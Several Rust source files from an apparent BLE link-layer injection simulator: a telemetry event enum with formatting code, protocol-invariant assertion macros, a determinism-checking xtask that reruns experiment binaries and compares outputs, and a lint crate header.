        /// Kind-specific detail scalar (same as the enter's).
        detail: u32,
        /// Total simulation nanoseconds.
        sim_ns: u64,
        /// Total wall-clock nanoseconds (0 without an injected clock).
        wall_ns: u64,
        /// Simulation nanoseconds net of child spans.
        self_sim_ns: u64,
        /// Wall-clock nanoseconds net of child spans.
        self_wall_ns: u64,
    },

    // --- escape hatch ------------------------------------------------------
    /// A legacy free-form trace record forwarded through the typed bus.
    /// New instrumentation should add a variant instead of using this.
    Raw {
        /// Legacy trace tag.
        tag: String,
        /// Free-form detail text.
        detail: String,
    },
}

impl TelemetryEvent {
    /// The legacy [`simkit::Trace`] tag for this event, used when mirroring
    /// typed events into a `Trace` and as the JSONL `kind` field.
    pub fn tag(&self) -> &'static str {
        match self {
            TelemetryEvent::NodeAdded { .. } => "node",
            TelemetryEvent::TxStart { .. } => "tx-start",
            TelemetryEvent::TxEnd => "tx-end",
            TelemetryEvent::RxLock { .. } => "rx-lock",
            TelemetryEvent::Relock { .. } => "relock",
            TelemetryEvent::RxEnd { .. } => "rx-end",
            TelemetryEvent::Collision { .. } => "collision",
            TelemetryEvent::InterferenceSpill { .. } => "interference-spill",
            TelemetryEvent::Anchor { .. } => "anchor",
            TelemetryEvent::WindowOpen { .. } => "window-open",
            TelemetryEvent::Hop { .. } => "hop",
            TelemetryEvent::SnNesn { .. } => "sn-nesn",
            TelemetryEvent::CrcFail { .. } => "crc-fail",
            TelemetryEvent::LlControl { .. } => "ll-control",
            TelemetryEvent::ConnectionEstablished { .. } => "connected",
            TelemetryEvent::ConnectionClosed { .. } => "disconnect",
            TelemetryEvent::SnifferSync { .. } => "sniff-sync",
            TelemetryEvent::SnifferLost { .. } => "sniff-lost",
            TelemetryEvent::InjectionAttempt { .. } => "inject",
            TelemetryEvent::HeuristicVerdict { .. } => "inject-outcome",
            TelemetryEvent::AnchorPrediction { .. } => "anchor-error",
            TelemetryEvent::IfsDelta { .. } => "ifs-delta",
            TelemetryEvent::Takeover { .. } => "takeover",
            TelemetryEvent::DetectorAlert { .. } => "alert",
            TelemetryEvent::PoolExhausted { .. } => "pool-exhausted",
            TelemetryEvent::SlotDenied => "slot-denied",
            TelemetryEvent::ConnEstablished { .. } => "conn-established",
            TelemetryEvent::ConnReleased { .. } => "conn-released",
            TelemetryEvent::PoolHighWater { .. } => "pool-high-water",
            TelemetryEvent::FaultBurst { .. } => "fault-burst",
            TelemetryEvent::FaultEpisode { .. } => "fault-episode",
            TelemetryEvent::FaultFrame { .. } => "fault-frame",
            TelemetryEvent::SpanEnter { .. } => "span-enter",
            TelemetryEvent::SpanExit { .. } => "span-exit",
            TelemetryEvent::Raw { .. } => "raw",
        }
    }
}

impl fmt::Display for TelemetryEvent {
    /// Human-readable detail text, also used as the `Trace` mirror detail.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TelemetryEvent::NodeAdded { label } => write!(f, "node '{label}' added"),
            TelemetryEvent::TxStart {
                channel,
                access_address,
                pdu_len,
                end,
            } => write!(
                f,
                "ch={channel} aa={access_address:#010x} len={pdu_len} end={end}"
            ),
            TelemetryEvent::TxEnd => write!(f, "tx complete"),
            TelemetryEvent::RxLock { channel } => write!(f, "locked ch={channel}"),
            TelemetryEvent::Relock { channel } => {
                write!(f, "capture relock ch={channel}")
            }
            TelemetryEvent::RxEnd {
                channel,
                access_address,
                crc_ok,
                interferers,
            } => write!(
                f,
                "ch={channel} aa={access_address:#010x} crc_ok={crc_ok} interferers={interferers}"
            ),
            TelemetryEvent::Collision {
                channel,
                interferers,
            } => write!(f, "ch={channel} interferers={interferers}"),
            TelemetryEvent::InterferenceSpill { channel } => {
                write!(f, "interference spill ch={channel}")
            }
            TelemetryEvent::Anchor { role, channel, at } => {
                write!(f, "{} anchor ch={channel} at={at}", role.as_str())
            }
            TelemetryEvent::WindowOpen {
                channel,
                widening,
                deadline,
            } => write!(f, "ch={channel} widening={widening} deadline={deadline}"),
            TelemetryEvent::Hop {
                channel,
                event_counter,
            } => write!(f, "ch={channel} event={event_counter}"),
            TelemetryEvent::SnNesn { role, sn, nesn } => {
                write!(f, "{} sn={} nesn={}", role.as_str(), sn, nesn)
            }
            TelemetryEvent::CrcFail { channel } => write!(f, "ch={channel}"),
            TelemetryEvent::LlControl { opcode } => write!(f, "opcode={opcode:#04x}"),
            TelemetryEvent::ConnectionEstablished {
                access_address,
                interval,
            } => write!(f, "aa={access_address:#010x} interval={interval}"),
            TelemetryEvent::ConnectionClosed { reason } => {
                write!(f, "reason={reason:#04x}")
            }
            TelemetryEvent::SnifferSync { access_address } => {
                write!(f, "following aa={access_address:#010x}")
            }
            TelemetryEvent::SnifferLost { reason } => {
                write!(f, "lost: {}", reason.as_str())
            }
            TelemetryEvent::InjectionAttempt { channel, lead } => {
                write!(f, "ch={channel} lead={lead}")
            }
            TelemetryEvent::HeuristicVerdict {
                verdict,
                attempts_total,
            } => write!(f, "{} (attempt #{attempts_total})", verdict.as_str()),
            TelemetryEvent::AnchorPrediction { error_us } => {
                write!(f, "error={error_us:+.3}µs")
            }
            TelemetryEvent::IfsDelta { delta_us } => write!(f, "delta={delta_us:+.3}µs"),
            TelemetryEvent::Takeover { role } => {
                write!(f, "usurped {}", role.as_str())
            }
            TelemetryEvent::DetectorAlert { kind, magnitude_us } => {
                write!(f, "{} magnitude={magnitude_us:.3}µs", kind.as_str())
            }
            TelemetryEvent::PoolExhausted { client } => {
                write!(f, "pool refused client={client}")
            }
            TelemetryEvent::SlotDenied => write!(f, "no free connection slot"),
            TelemetryEvent::ConnEstablished { handle } => {
                write!(f, "conn#{}.{} up", handle & 0xFF, handle >> 8)
            }
            TelemetryEvent::ConnReleased { handle } => {
                write!(f, "conn#{}.{} released", handle & 0xFF, handle >> 8)
            }
            TelemetryEvent::PoolHighWater { in_use } => {
                write!(f, "high water in_use={in_use}")
            }
            TelemetryEvent::FaultBurst {
                channel,
                power_dbm,
                active,
            } => write!(
                f,
                "burst {} ch={channel} power={power_dbm:.1}dBm",
                if *active { "on" } else { "off" }
            ),
            TelemetryEvent::FaultEpisode {
                kind,
                magnitude,
                active,
            } => write!(
                f,
                "{} {} magnitude={magnitude:.1}",
                kind.as_str(),
                if *active { "start" } else { "end" }
            ),
            TelemetryEvent::FaultFrame { kind, channel } => {
                write!(f, "{} ch={channel}", kind.as_str())
            }
            TelemetryEvent::SpanEnter { id, kind, detail } => {
                write!(f, "{} #{id} detail={detail}", kind.as_str())
            }
            TelemetryEvent::SpanExit {
                id,
                kind,
                detail,
                sim_ns,
                wall_ns,
                self_sim_ns,
                self_wall_ns,
            } => write!(
                f,
                "{} #{id} detail={detail} sim={sim_ns}ns (self {self_sim_ns}ns) wall={wall_ns}ns (self {self_wall_ns}ns)",
                kind.as_str()
            ),
            TelemetryEvent::Raw { tag, detail } => write!(f, "[{tag}] {detail}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wire_names_round_trip() {
        for role in [LinkRole::Master, LinkRole::Slave] {
            assert_eq!(LinkRole::parse(role.as_str()), Some(role));
        }
        for v in [Verdict::Success, Verdict::Rejected, Verdict::NoResponse] {
            assert_eq!(Verdict::parse(v.as_str()), Some(v));
        }
        for k in [
            AlertKind::EarlyAnchor,
            AlertKind::DoubleAnchor,
            AlertKind::ResponseTimingMismatch,
        ] {
            assert_eq!(AlertKind::parse(k.as_str()), Some(k));
        }
        for r in [
            LossReason::Terminated,
            LossReason::MissedEvents,
            LossReason::DuringInjection,
        ] {
            assert_eq!(LossReason::parse(r.as_str()), Some(r));
        }
        for k in [
            FaultKind::Interference,
            FaultKind::Loss,
            FaultKind::Corruption,
            FaultKind::Fading,
            FaultKind::Drift,
        ] {
            assert_eq!(FaultKind::parse(k.as_str()), Some(k));
        }
        assert_eq!(LinkRole::parse("nonsense"), None);
        assert_eq!(FaultKind::parse("nonsense"), None);
    }

    #[test]
    fn tags_match_legacy_trace_vocabulary() {
        let anchor = TelemetryEvent::Anchor {
            role: LinkRole::Master,
            channel: 12,
            at: Instant::from_micros(100),
        };
        assert_eq!(anchor.tag(), "anchor");
        let inject = TelemetryEvent::InjectionAttempt {
            channel: 3,
            lead: Duration::from_micros(40),
        };
        assert_eq!(inject.tag(), "inject");
        assert_eq!(TelemetryEvent::TxEnd.tag(), "tx-end");
    }

    #[test]
    fn display_is_informative() {
        let e = TelemetryEvent::WindowOpen {
            channel: 7,
            widening: Duration::from_micros(32),
            deadline: Duration::from_micros(1000),
        };
        let s = format!("{e}");
        assert!(s.contains("ch=7"), "{s}");
        assert!(s.contains("widening"), "{s}");
    }
}
