//! Protocol invariants as debug assertions, plus masked-cast helpers.
//!
//! The protocol crates (`ble-phy`, `ble-link`, `ble-crypto`) are forbidden
//! from panicking on hot paths (rule R1 of `cargo xtask lint`), so violated
//! invariants cannot simply `panic!`. Instead they funnel through the macros
//! here, which expand to [`debug_assert!`]: a debug build (and the test
//! suite, including the property tests) aborts loudly on the first violated
//! invariant, while a release build treats the macro as documentation and
//! carries on with whatever recovery the call site implements.
//!
//! The masked-cast helpers exist because rule R2 bans truncating `as` casts
//! in PDU parsing/serialization. A call like [`len_u8`] states the intent
//! (this length provably fits a byte, mask it down) in one audited place
//! instead of scattering `as u8` across the parsers.
//!
//! This crate deliberately has **no dependencies**, so every other crate in
//! the workspace — including `ble-phy` at the bottom of the stack — can use
//! it without cycles.

#![forbid(unsafe_code)]

/// Asserts a named protocol invariant in debug builds.
///
/// The first argument is a short, stable invariant name (used in the panic
/// message); the rest is a `format!`-style explanation.
///
/// # Example
///
/// ```
/// use ble_invariants::invariant;
/// let hop = 7u8;
/// invariant!(hop >= 5 && hop <= 16, "hop", "hop increment {hop} outside 5..=16");
/// ```
#[macro_export]
macro_rules! invariant {
    ($cond:expr, $name:expr) => {
        debug_assert!($cond, "protocol invariant [{}] violated", $name);
    };
    ($cond:expr, $name:expr, $($arg:tt)+) => {
        debug_assert!(
            $cond,
            "protocol invariant [{}] violated: {}",
            $name,
            format_args!($($arg)+)
        );
    };
}

/// Asserts that a time window is well-formed: `start <= end`.
///
/// Works for any partially ordered pair — `simkit` `Instant`s bounding a
/// receive window, or plain microsecond counts. An inverted window means
/// the window-widening arithmetic (paper eq. 5) produced an opening time
/// after the closing time, which would make the radio listen for a
/// negative duration.
///
/// # Example
///
/// ```
/// use ble_invariants::invariant_window;
/// let (open, close) = (100u64, 250u64);
/// invariant_window!(open, close);
/// ```
#[macro_export]
macro_rules! invariant_window {
    ($start:expr, $end:expr) => {{
        let (start, end) = (&$start, &$end);
        debug_assert!(
            start <= end,
            "protocol invariant [window] violated: window start {:?} is after end {:?}",
            start,
            end
        );
    }};
    ($start:expr, $end:expr, $($arg:tt)+) => {{
        let (start, end) = (&$start, &$end);
        debug_assert!(
            start <= end,
            "protocol invariant [window] violated: start {:?} after end {:?}: {}",
            start,
            end,
            format_args!($($arg)+)
        );
    }};
}

/// Asserts that sequence-number state is a pair of single bits.
///
/// The Link Layer acknowledgement scheme (and the forged `SN`/`NESN`
/// values of paper eq. 6/7) only ever carries one-bit sequence numbers;
/// anything else means a header was assembled from unmasked arithmetic.
///
/// # Example
///
/// ```
/// use ble_invariants::invariant_sn_nesn;
/// let (sn, nesn) = (1u8, 0u8);
/// invariant_sn_nesn!(sn, nesn);
/// ```
#[macro_export]
macro_rules! invariant_sn_nesn {
    ($sn:expr, $nesn:expr) => {{
        let (sn, nesn) = ($sn, $nesn);
        debug_assert!(
            sn <= 1 && nesn <= 1,
            "protocol invariant [sn-nesn] violated: sn={sn} nesn={nesn} are not single bits"
        );
    }};
}

/// Asserts that a data-channel index is in range (`0..37`).
///
/// Channel-selection algorithms reduce modulo 37 and then remap through the
/// channel map; an out-of-range index escaping either step would select a
/// frequency outside the data-channel plan.
///
/// # Example
///
/// ```
/// use ble_invariants::invariant_channel;
/// invariant_channel!(36u8);
/// ```
#[macro_export]
macro_rules! invariant_channel {
    ($index:expr) => {{
        let index = $index;
        debug_assert!(
            index < 37,
            "protocol invariant [channel] violated: data channel index {index} not in 0..37"
        );
    }};
}

/// Masks a value down to its least-significant byte.
///
/// Use when the surrounding arithmetic already guarantees the value fits
/// (for example a sum reduced modulo 37 held in a wider type); the mask
/// makes the byte extraction explicit instead of relying on `as u8`
/// truncation semantics.
#[must_use]
#[allow(clippy::cast_possible_truncation)]
pub const fn lsb8(v: u64) -> u8 {
    (v & 0xFF) as u8
}

/// Masks a value down to its least-significant 16 bits.
#[must_use]
#[allow(clippy::cast_possible_truncation)]
pub const fn lsb16(v: u64) -> u16 {
    (v & 0xFFFF) as u16
}

/// Masks a value down to its least-significant 32 bits.
#[must_use]
#[allow(clippy::cast_possible_truncation)]
pub const fn lsb32(v: u64) -> u32 {
    (v & 0xFFFF_FFFF) as u32
}

/// Converts a buffer length to the one-byte PDU `Length` field.
///
/// Debug-asserts that the length actually fits: PDU constructors bound
/// payloads to at most 255 bytes, so a larger value reaching serialization
/// is a bug upstream. Release builds mask.
#[must_use]
#[allow(clippy::cast_possible_truncation)]
pub fn len_u8(len: usize) -> u8 {
    debug_assert!(len <= 0xFF, "PDU payload length {len} exceeds one byte");
    (len & 0xFF) as u8
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn invariants_pass_on_valid_input() {
        invariant!(true, "always");
        invariant!(1 + 1 == 2, "arith", "{} plus {}", 1, 1);
        invariant_window!(0u64, 0u64);
        invariant_window!(5u64, 9u64, "listen window");
        invariant_sn_nesn!(0u8, 1u8);
        invariant_channel!(0u8);
        invariant_channel!(36u8);
    }

    #[test]
    #[should_panic(expected = "protocol invariant [window]")]
    fn inverted_window_fires() {
        invariant_window!(10u64, 3u64);
    }

    #[test]
    #[should_panic(expected = "protocol invariant [sn-nesn]")]
    fn wide_sn_fires() {
        invariant_sn_nesn!(2u8, 0u8);
    }

    #[test]
    #[should_panic(expected = "protocol invariant [channel]")]
    fn out_of_range_channel_fires() {
        invariant_channel!(37u8);
    }

    #[test]
    #[should_panic(expected = "protocol invariant [named]")]
    fn generic_invariant_fires() {
        invariant!(false, "named", "details {}", 42);
    }

    #[test]
    fn masked_casts() {
        assert_eq!(lsb8(0x1FF), 0xFF);
        assert_eq!(lsb8(0x100), 0x00);
        assert_eq!(lsb16(0x1_FFFF), 0xFFFF);
        assert_eq!(lsb32(0x1_0000_0001), 1);
        assert_eq!(len_u8(251), 251);
    }

    #[test]
    #[should_panic(expected = "exceeds one byte")]
    fn oversized_len_fires() {
        let _ = len_u8(256);
    }
}
