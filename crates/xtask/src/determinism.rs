//! `cargo xtask determinism` — the runtime divergence oracle.
//!
//! The lint rules (R7–R9) catch nondeterminism *sources* statically; this
//! task proves the *outcome*: it builds the workspace in release mode, runs
//! every experiment binary twice at its fixed default seed, and — for the
//! binaries that fan trials out over [`run_trials_parallel`] — additionally
//! at 1 and 4 worker threads via the `BENCH_THREADS` override. Two sweeps
//! also run a fifth leg through the streaming `--campaign` runner, which
//! must reproduce the in-memory artefact byte-for-byte. Any byte
//! divergence in the normalised stdout or `--json` artefact fails the task
//! with a diff excerpt naming the first divergent line.
//!
//! Three artefact fields are *defined* as wall-clock measurements and are
//! neutralised before comparison (`trials_per_sec`, `peak_rss_kb`,
//! `events_per_sec` — see `bench::report::SeriesReport`); `[artefact]`
//! stdout lines carry filesystem paths and are dropped. Everything else —
//! every statistic the paper's figures rest on — must be byte-identical.

use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};

/// One experiment binary under test.
struct BinSpec {
    /// Binary name under `target/release/`.
    name: &'static str,
    /// Whether the binary takes `<trials> [--json <path>]` arguments.
    /// `false` means it runs with no arguments (fixed internal scenarios).
    takes_trials: bool,
    /// Whether the binary writes a `--json` artefact worth comparing.
    json: bool,
    /// Whether trials fan out over `run_trials_parallel` (gets the extra
    /// 1-vs-N-thread runs).
    parallel: bool,
}

/// Every oracle-covered binary. `timeline` is excluded: it is a narrated
/// demo trace, not an experiment, and emits no artefact.
const BINARIES: &[BinSpec] = &[
    BinSpec {
        name: "exp1_hop_interval",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "exp2_payload_size",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "exp3_distance",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "exp4_wall",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "ablation_phy2m",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "ablation_sync_noise",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "ablation_widening",
        takes_trials: true,
        json: true,
        parallel: false,
    },
    BinSpec {
        name: "ablation_faults",
        takes_trials: true,
        json: true,
        parallel: true,
    },
    BinSpec {
        name: "scenarios",
        takes_trials: false,
        json: false,
        parallel: false,
    },
    BinSpec {
        name: "encrypted_countermeasure",
        takes_trials: true,
        json: false,
        parallel: false,
    },
    BinSpec {
        name: "ids_detection",
        takes_trials: true,
        json: false,
        parallel: false,
    },
    BinSpec {
        name: "exp5_multi_conn",
        takes_trials: true,
        json: true,
        parallel: false,
    },
    BinSpec {
        name: "exp6_dense_band",
        takes_trials: true,
        json: true,
        parallel: false,
    },
];

/// The per-push fast subset: one parallel sweep, one ablation, and the
/// scenario acceptance binary — enough to catch a reintroduced
/// nondeterminism source without the full sweep's wall time.
const FAST_SUBSET: &[&str] = &["exp1_hop_interval", "ablation_phy2m", "scenarios"];

/// Binaries that additionally run through the streaming campaign path
/// (`--campaign` with a fresh checkpoint directory). The campaign run must
/// match the in-memory run `a` byte-for-byte — the two aggregation paths
/// are different code folding the same trials, so any drift between them
/// is a real accounting bug, not wall-clock noise.
const CAMPAIGN_BINS: &[&str] = &["exp1_hop_interval", "exp2_payload_size"];

/// Labels for the runs of one binary. Runs `a`/`b` share an environment
/// (same-seed double run); `t1`/`t4` pin the worker-thread count; `camp`
/// re-runs the sweep through the streaming campaign runner.
#[derive(Clone, Copy, PartialEq, Eq)]
enum RunKind {
    A,
    B,
    Threads1,
    Threads4,
    Campaign,
}

impl RunKind {
    fn label(self) -> &'static str {
        match self {
            RunKind::A => "a",
            RunKind::B => "b",
            RunKind::Threads1 => "t1",
            RunKind::Threads4 => "t4",
            RunKind::Campaign => "camp",
        }
    }

    /// The `BENCH_THREADS` value this run pins, if any.
    fn threads(self) -> Option<&'static str> {
        match self {
            RunKind::Threads1 => Some("1"),
            RunKind::Threads4 => Some("4"),
            RunKind::A | RunKind::B | RunKind::Campaign => None,
        }
    }
}

/// Captured, normalised output of one run.
struct RunOutput {
    label: &'static str,
    stdout: String,
    json: Option<String>,
}

pub fn run(args: &[String]) -> ExitCode {
    let cfg = match parse_args(args) {
        Ok(cfg) => cfg,
        Err(msg) => {
            eprintln!("xtask determinism: {msg}");
            return ExitCode::FAILURE;
        }
    };

    eprintln!("[determinism] building release binaries…");
    let status = Command::new("cargo")
        .args(["build", "--release", "-p", "bench"])
        .current_dir(&cfg.root)
        .status();
    match status {
        Ok(s) if s.success() => {}
        Ok(s) => {
            eprintln!("xtask determinism: release build failed ({s})");
            return ExitCode::FAILURE;
        }
        Err(e) => {
            eprintln!("xtask determinism: cannot run cargo: {e}");
            return ExitCode::FAILURE;
        }
    }

    let out_dir = cfg.root.join("target").join("determinism");
    if let Err(e) = std::fs::create_dir_all(&out_dir) {
        eprintln!(
            "xtask determinism: cannot create {}: {e}",
            out_dir.display()
        );
        return ExitCode::FAILURE;
    }

    let mut failures = 0usize;
    let mut covered = 0usize;
    for spec in BINARIES {
        if cfg.fast && !FAST_SUBSET.contains(&spec.name) {
            continue;
        }
        covered += 1;
        match check_binary(&cfg, spec, &out_dir) {
            Ok(()) => {}
            Err(msg) => {
                eprintln!("[determinism] FAIL {}: {msg}", spec.name);
                failures += 1;
            }
        }
    }

    if failures > 0 {
        eprintln!("xtask determinism: {failures} of {covered} binaries diverged");
        ExitCode::FAILURE
    } else {
        println!("xtask determinism: {covered} binaries byte-identical across runs");
        ExitCode::SUCCESS
    }
}

struct Config {
    root: PathBuf,
    fast: bool,
    trials: u32,
}

fn parse_args(args: &[String]) -> Result<Config, String> {
    let mut cfg = Config {
        root: crate::default_root()?,
        fast: false,
        trials: 5,
    };
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--fast" => cfg.fast = true,
            "--trials" => {
                let v = it.next().ok_or("--trials needs a number")?;
                cfg.trials = v.parse().map_err(|_| format!("bad --trials value `{v}`"))?;
            }
            "--root" => {
                let v = it.next().ok_or("--root needs a directory")?;
                cfg.root = PathBuf::from(v);
            }
            other => return Err(format!("unknown argument `{other}`")),
        }
    }
    Ok(cfg)
}

/// Runs one binary's full run matrix and compares every pair that must
/// agree: `a == b` (same-seed double run) and, for parallel binaries,
/// `a == t1 == t4` (thread-count independence).
fn check_binary(cfg: &Config, spec: &BinSpec, out_dir: &Path) -> Result<(), String> {
    let mut kinds = vec![RunKind::A, RunKind::B];
    if spec.parallel {
        kinds.push(RunKind::Threads1);
        kinds.push(RunKind::Threads4);
    }
    if CAMPAIGN_BINS.contains(&spec.name) {
        kinds.push(RunKind::Campaign);
    }
    let mut runs = Vec::new();
    for kind in kinds {
        runs.push(run_once(cfg, spec, kind, out_dir)?);
    }
    for pair in runs.windows(2) {
        compare_runs(spec.name, &pair[0], &pair[1])?;
    }
    println!(
        "[determinism] ok {} ({} runs, stdout {:016x}{})",
        spec.name,
        runs.len(),
        fnv1a(runs[0].stdout.as_bytes()),
        runs[0]
            .json
            .as_ref()
            .map(|j| format!(", json {:016x}", fnv1a(j.as_bytes())))
            .unwrap_or_default(),
    );
    Ok(())
}

fn run_once(
    cfg: &Config,
    spec: &BinSpec,
    kind: RunKind,
    out_dir: &Path,
) -> Result<RunOutput, String> {
    let bin = cfg.root.join("target").join("release").join(spec.name);
    let json_path = out_dir.join(format!("{}_{}.json", spec.name, kind.label()));
    let mut cmd = Command::new(&bin);
    cmd.current_dir(&cfg.root);
    if spec.takes_trials {
        cmd.arg(cfg.trials.to_string());
    }
    if spec.json {
        cmd.arg("--json").arg(&json_path);
    }
    if kind == RunKind::Campaign {
        // A fresh checkpoint directory per run: the leg proves the
        // streaming aggregation path, not resume (the CI smoke job and
        // the bench integration tests cover resume).
        let cp_dir = out_dir.join(format!("{}_campaign_cp", spec.name));
        let _ = std::fs::remove_dir_all(&cp_dir);
        cmd.arg("--campaign").arg("--checkpoint-dir").arg(&cp_dir);
    }
    if let Some(threads) = kind.threads() {
        cmd.env("BENCH_THREADS", threads);
    }
    let output = cmd
        .output()
        .map_err(|e| format!("cannot run {}: {e}", bin.display()))?;
    if !output.status.success() {
        return Err(format!(
            "run {} exited with {} — stderr tail:\n{}",
            kind.label(),
            output.status,
            tail(&String::from_utf8_lossy(&output.stderr), 5)
        ));
    }
    let stdout = normalize_stdout(&String::from_utf8_lossy(&output.stdout));
    std::fs::write(
        out_dir.join(format!("{}_{}.stdout", spec.name, kind.label())),
        &stdout,
    )
    .map_err(|e| format!("cannot record stdout: {e}"))?;
    let json = if spec.json {
        let raw = std::fs::read_to_string(&json_path).map_err(|e| {
            format!(
                "run {} wrote no artefact at {}: {e}",
                kind.label(),
                json_path.display()
            )
        })?;
        Some(normalize_json(&raw))
    } else {
        None
    };
    Ok(RunOutput {
        label: kind.label(),
        stdout,
        json,
    })
}

/// Byte-compares two runs' normalised outputs, reporting the first
/// divergent line of whichever stream differs.
fn compare_runs(bin: &str, a: &RunOutput, b: &RunOutput) -> Result<(), String> {
    if a.stdout != b.stdout {
        return Err(format!(
            "stdout diverges between runs `{}` and `{}`:\n{}",
            a.label,
            b.label,
            first_divergence(&a.stdout, &b.stdout)
        ));
    }
    if a.json != b.json {
        let (ja, jb) = (
            a.json.as_deref().unwrap_or(""),
            b.json.as_deref().unwrap_or(""),
        );
        return Err(format!(
            "JSON artefact diverges between runs `{}` and `{}` of {bin}:\n{}",
            a.label,
            b.label,
            first_divergence(ja, jb)
        ));
    }
    Ok(())
}

/// The diff excerpt: the first line where the two texts disagree, with its
/// 1-based line number and both versions.
fn first_divergence(a: &str, b: &str) -> String {
    let mut la = a.lines();
    let mut lb = b.lines();
    let mut n = 0u32;
    loop {
        n += 1;
        match (la.next(), lb.next()) {
            (Some(x), Some(y)) if x == y => continue,
            (Some(x), Some(y)) => {
                return format!("  line {n}:\n  - {x}\n  + {y}");
            }
            (Some(x), None) => return format!("  line {n} only in first run:\n  - {x}"),
            (None, Some(y)) => return format!("  line {n} only in second run:\n  + {y}"),
            (None, None) => return "  (no textual divergence — lengths differ?)".into(),
        }
    }
}

/// Drops `[artefact] <path>` lines: they name the run-specific output path,
/// which legitimately differs between runs.
fn normalize_stdout(raw: &str) -> String {
    let mut out = String::new();
    for line in raw.lines() {
        if line.starts_with("[artefact]") {
            continue;
        }
        out.push_str(line);
        out.push('\n');
    }
    out
}

/// Neutralises the wall-clock-defined artefact fields (`trials_per_sec`,
/// `peak_rss_kb`, `events_per_sec`, and the span profile's `wall_ns` /
/// `self_wall_ns`) so the comparison covers exactly the
/// simulation-deterministic content.
///
/// Field matching is exact: the needle includes the opening quote, so
/// `wall_ns` does not also swallow `self_wall_ns` (each is listed).
fn normalize_json(raw: &str) -> String {
    let mut s = raw.to_string();
    for field in [
        "trials_per_sec",
        "peak_rss_kb",
        "events_per_sec",
        "wall_ns",
        "self_wall_ns",
    ] {
        s = neutralize_field(&s, field);
    }
    s
}

/// Replaces every `"<field>":<number-or-null>` value with `0`.
fn neutralize_field(s: &str, field: &str) -> String {
    let needle = format!("\"{field}\":");
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find(&needle) {
        let after = pos + needle.len();
        out.push_str(&rest[..after]);
        out.push('0');
        let tail = &rest[after..];
        let end = tail
            .find(|c: char| {
                !(c.is_ascii_digit() || c == '.' || c == '-' || c == 'n' || c == 'u' || c == 'l')
            })
            .unwrap_or(tail.len());
        rest = &tail[end..];
    }
    out.push_str(rest);
    out
}

/// FNV-1a 64-bit, for the one-line per-binary fingerprint in the report.
fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(0x1_0000_0000_01b3);
    }
    h
}

/// Last `n` lines of a string (for stderr excerpts on run failure).
fn tail(s: &str, n: usize) -> String {
    let lines: Vec<&str> = s.lines().collect();
    let start = lines.len().saturating_sub(n);
    lines[start..].join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn artefact_lines_are_dropped_from_stdout() {
        let raw = "header\n[artefact] /tmp/x_a.json\nrow 1\n";
        assert_eq!(normalize_stdout(raw), "header\nrow 1\n");
    }

    #[test]
    fn wall_clock_fields_are_neutralised() {
        let raw = r#"{"mean":2.000,"events_per_sec":2293891.9,"trials_per_sec":4165.5,"peak_rss_kb":3256}"#;
        let n = normalize_json(raw);
        assert_eq!(
            n,
            r#"{"mean":2.000,"events_per_sec":0,"trials_per_sec":0,"peak_rss_kb":0}"#
        );
        // `null` RSS (non-Linux) normalises to the same bytes as a number.
        let raw_null = r#"{"peak_rss_kb":null,"x":1}"#;
        assert_eq!(normalize_json(raw_null), r#"{"peak_rss_kb":0,"x":1}"#);
    }

    #[test]
    fn span_wall_fields_are_neutralised_but_sim_fields_kept() {
        let raw = r#"{"phase":"trial-sync","count":1,"sim_ns":100000000,"self_sim_ns":99648000,"wall_ns":104802,"self_wall_ns":98975}"#;
        let n = normalize_json(raw);
        assert_eq!(
            n,
            r#"{"phase":"trial-sync","count":1,"sim_ns":100000000,"self_sim_ns":99648000,"wall_ns":0,"self_wall_ns":0}"#
        );
    }

    #[test]
    fn neutralisation_preserves_simulation_fields() {
        let raw = r#"{"median":2,"variance":0.667,"raw":[2, 3, 1],"events_per_sec":1.5}"#;
        let n = normalize_json(raw);
        assert!(n.contains(r#""median":2"#));
        assert!(n.contains(r#""raw":[2, 3, 1]"#));
        assert!(n.contains(r#""events_per_sec":0"#));
    }

    #[test]
    fn first_divergence_names_the_line() {
        let a = "same\nalpha\ntail\n";
        let b = "same\nbeta\ntail\n";
        let d = first_divergence(a, b);
        assert!(d.contains("line 2"), "{d}");
        assert!(d.contains("- alpha"));
        assert!(d.contains("+ beta"));
        // One-sided tails are reported too.
        let d = first_divergence("x\ny\n", "x\n");
        assert!(d.contains("only in first run"));
    }

    #[test]
    fn fnv_is_stable() {
        assert_eq!(fnv1a(b""), 0xcbf2_9ce4_8422_2325);
        assert_ne!(fnv1a(b"a"), fnv1a(b"b"));
    }

    #[test]
    fn fast_subset_is_a_subset_of_the_matrix() {
        for name in FAST_SUBSET {
            assert!(
                BINARIES.iter().any(|b| b.name == *name),
                "fast-subset binary {name} missing from the matrix"
            );
        }
    }

    #[test]
    fn campaign_bins_take_trials_and_write_artefacts() {
        for name in CAMPAIGN_BINS {
            let spec = BINARIES
                .iter()
                .find(|b| b.name == *name)
                .unwrap_or_else(|| panic!("campaign binary {name} missing from the matrix"));
            // The campaign leg compares the --json artefact against run
            // `a`, so the binary must produce one (and accept a trial
            // count so the leg stays cheap).
            assert!(spec.takes_trials && spec.json && spec.parallel, "{name}");
        }
    }
}
