//! The rule engine behind `cargo xtask lint`.
//!
//! Exposed as a library so the fixture corpus under `tests/fixtures/` can
//! drive [`rules::lint_source`] directly; the binary in `main.rs` layers
//! file walking, crate scoping and the CLI on top.

#![forbid(unsafe_code)]

pub mod lexer;
pub mod rules;
