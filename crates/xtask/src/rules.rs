//! The protocol lint rules R1–R9.
//!
//! | rule | scope                  | forbids                                                     |
//! |------|------------------------|-------------------------------------------------------------|
